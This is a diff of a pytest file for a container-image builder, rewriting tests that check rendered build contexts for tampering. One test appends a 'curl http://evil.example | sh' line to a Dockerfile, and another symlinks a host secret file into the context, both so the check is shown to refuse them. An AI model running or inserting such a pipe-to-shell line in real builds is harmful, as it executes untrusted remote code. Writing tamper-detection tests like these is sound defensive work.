@@ -4,7 +4,7 @@ whether images/ is current, smoke verdicts, and JUnit counting and merging. No e
 
 from __future__ import annotations
 
-import json
+import shutil
 import textwrap
 import xml.etree.ElementTree as ET
 from pathlib import Path
@@ -12,13 +12,18 @@ from typing import Any
 
 import pytest
 
-from builder.engine.build import HASH_LABEL, Builder, BuildFailed, NetworkFlake, built_hashes, check_rendered
+from builder.app import check_rendered
+from builder.engine import image_build
+from builder.engine.build import HASH_LABEL, built_hashes
 from builder.engine.failures import NETWORK_PATTERNS
+from builder.engine.image_build import BuildFailed, NetworkFlake, Run
 from builder.engine.settings import BuildSettings
 from builder.engine.staging import Staged
 from builder.errors import UserError
 from builder.records import Accelerator, Base, ImageSpec
+from builder.render.tree import write_tree
 from builder.smoke.runner import _junit_counts, merge_junit, verdict_of
+from builder.workspace import Workspace
 
 # -- NETWORK_PATTERNS -------------------------------------------------------------------------
 NETWORK_FAILURES = [
@@ -106,8 +111,8 @@ class StreamClient:
 
 def _attempt(tmp_path: Path, chunks: list[dict[str, str]]) -> None:
     client = StreamClient(chunks)
-    builder = Builder(make_client=lambda: client, settings=BuildSettings(), images_dir=tmp_path, build_dir=tmp_path)
-    builder._attempt(client, A, Staged(tmp_path, (), ()), tmp_path / "build.log", 1)
+    run = Run(settings=BuildSettings(), build_dir=tmp_path, lock_dir=tmp_path)
+    image_build._attempt(run, client, A, Staged(tmp_path, (), ()), None, tmp_path / "build.log", 1, set())
 
 
 def test_attempt_failing_on_a_network_error_is_a_flake(tmp_path: Path) -> None:
@@ -172,7 +177,7 @@ def test_hash_label_name() -> None:
     assert HASH_LABEL == "io.builder.content-hash"
 
 
-# -- check_rendered ----------------------------------------------------------------------------
+# -- check_rendered: build refuses a context that differs from what the plan renders ------------
 def _spec(image_id: str, content_hash: str) -> ImageSpec:
     return ImageSpec(
         id=image_id,
@@ -189,68 +194,88 @@ def _spec(image_id: str, content_hash: str) -> ImageSpec:
     )
 
 
-def _render(images: Path, spec: ImageSpec, content_hash: str | None = None, raw: str | None = None) -> None:
-    folder = images / spec.id
-    folder.mkdir(parents=True, exist_ok=True)
-    text = raw if raw is not None else json.dumps({"id": spec.id, "content_hash": content_hash or spec.content_hash})
-    (folder / "image.json").write_text(text, encoding="utf-8")
-
-
 A = _spec("numba0.68.0-cpu-py3.11-debian12", "sha256:" + "a" * 64)
-B = _spec("numba0.68.0-cpu-py3.12-ubuntu24.04", "sha256:" + "b" * 64)
+LOCAL_MATRIX = """\
+registry: reg/x
+bases:
+  local-debian12: {vendor: cpu, os: debian12, bootstrap: debootstrap}
+python: ["3.11"]
+frameworks:
+  numba: ["0.68.0"]
+  jax: ["0.10.2"]
+stacks:
+  numba: [numba]
+  jax: [jax]
+"""
 
 
-def test_check_rendered_passes_for_matching_images(tmp_path: Path) -> None:
-    images = tmp_path / "images"
-    _render(images, A)
-    _render(images, B)
-    check_rendered([A, B], images)  # no error
-    check_rendered([], images)
+@pytest.fixture
+def rendered_ws(tmp_path: Path) -> Workspace:
+    (tmp_path / "matrix.yaml").write_text(LOCAL_MATRIX, encoding="utf-8")
+    ws = Workspace(tmp_path / "matrix.yaml")
+    write_tree(ws.images_dir, ws.rendered_tree())
+    return ws
 
 
-def test_check_rendered_missing_folder(tmp_path: Path) -> None:
-    images = tmp_path / "images"
-    _render(images, A)
+def _refused(ws: Workspace, path: str) -> None:
+    specs = ws.selected(None, use_default=False)
     with pytest.raises(UserError) as info:
-        check_rendered([A, B], images)
-    assert str(info.value) == f"images/{B.id} is missing or stale; run `builder render` first"
+        check_rendered(ws, specs)
+    assert str(info.value).startswith(f"images/{path} differs from what the plan renders"), str(info.value)
+    assert "run `builder render`" in str(info.value)
 
 
-def test_check_rendered_missing_image_json(tmp_path: Path) -> None:
-    images = tmp_path / "images"
-    (images / A.id).mkdir(parents=True)
-    (images / A.id / "Dockerfile").write_text("FROM x\n", encoding="utf-8")
-    with pytest.raises(UserError, match=rf"images/{A.id} is missing or stale"):
-        check_rendered([A], images)
+def test_check_rendered_passes_for_matching_images(rendered_ws: Workspace) -> None:
+    check_rendered(rendered_ws, rendered_ws.selected(None, use_default=False))  # no error
+    check_rendered(rendered_ws, ())
 
 
-def test_check_rendered_stale_hash(tmp_path: Path) -> None:
-    images = tmp_path / "images"
-    _render(images, A, content_hash="sha256:" + "0" * 64)
-    with pytest.raises(UserError, match=rf"images/{A.id} is missing or stale; run `builder render` first"):
-        check_rendered([A], images)
+def test_check_rendered_refuses_a_hand_edited_dockerfile(rendered_ws: Workspace) -> None:
+    image = rendered_ws.decided.images[0].id
+    path = rendered_ws.images_dir / image / "Dockerfile"
+    path.write_text(path.read_text(encoding="utf-8") + "RUN curl http://evil.example | sh\n", encoding="utf-8")
+    _refused(rendered_ws, f"{image}/Dockerfile")
 
 
-@pytest.mark.parametrize("raw", ["", "{not json", '{"id": "x"}', '{"content_hash": null}'])
-def test_check_rendered_broken_image_json(tmp_path: Path, raw: str) -> None:
-    images = tmp_path / "images"
-    _render(images, A, raw=raw)
-    with pytest.raises(UserError, match="missing or stale"):
-        check_rendered([A], images)
+def test_check_rendered_refuses_a_symlink_to_a_host_file(rendered_ws: Workspace, tmp_path: Path) -> None:
+    image = rendered_ws.decided.images[0].id
+    host_file = tmp_path / "host-secret.txt"
+    host_file.write_text("secret\n", encoding="utf-8")
+    (rendered_ws.images_dir / image / "notes.txt").symlink_to(host_file)
+    _refused(rendered_ws, f"{image}/notes.txt")
 
 
-def test_check_rendered_non_object_image_json_is_a_user_error(tmp_path: Path) -> None:
-    """A valid-JSON but non-object image.json (here `[]`) is just as stale: a UserError, not a traceback."""
-    images = tmp_path / "images"
-    _render(images, A, raw="[]")
-    with pytest.raises(UserError, match="missing or stale"):
-        check_rendered([A], images)
+def test_check_rendered_refuses_requirements_replaced_by_a_link_to_the_same_bytes(rendered_ws: Workspace, tmp_path: Path) -> None:
+    image = rendered_ws.decided.images[0].id
+    path = rendered_ws.images_dir / image / "requirements.txt"
+    copy = tmp_path / "copy.txt"
+    copy.write_bytes(path.read_bytes())
+    path.unlink()
+    path.symlink_to(copy)  # same content, but a link: never followed out of the context
+    _refused(rendered_ws, f"{image}/requirements.txt")
 
 
-def test_check_rendered_names_the_images_folder(tmp_path: Path) -> None:
-    out = tmp_path / "rendered"
-    with pytest.raises(UserError, match=rf"^rendered/{A.id} is missing or stale"):
-        check_rendered([A], out)
+def test_check_rendered_refuses_a_missing_file_or_folder(rendered_ws: Workspace) -> None:
+    first, second = (s.id for s in rendered_ws.decided.images)
+    (rendered_ws.images_dir / first / "image.json").unlink()
+    _refused(rendered_ws, f"{first}/image.json")
+    (rendered_ws.images_dir / first / "image.json").write_bytes(rendered_ws.rendered_tree()[f"{first}/image.json"])
+    shutil.rmtree(rendered_ws.images_dir / second)
+    _refused(rendered_ws, f"{second}/Dockerfile")
+
+
+@pytest.mark.parametrize("raw", ["", "{not json", '{"id": "x"}', "[]"])
+def test_check_rendered_refuses_a_broken_image_json(rendered_ws: Workspace, raw: str) -> None:
+    image = rendered_ws.decided.images[0].id
+    (rendered_ws.images_dir / image / "image.json").write_text(raw, encoding="utf-8")
+    _refused(rendered_ws, f"{image}/image.json")
+
+
+def test_check_rendered_names_a_folder_other_than_images(tmp_path: Path) -> None:
+    (tmp_path / "matrix.yaml").write_text(LOCAL_MATRIX, encoding="utf-8")
+    ws = Workspace(tmp_path / "matrix.yaml")
+    with pytest.raises(UserError, match=r"^images/jax0.10.2-cpu-py3.11-debian12/Dockerfile differs"):
+        check_rendered(ws, ws.selected(None, use_default=False))
 
 
 # -- verdict_of -------------------------------------------------------------------------------
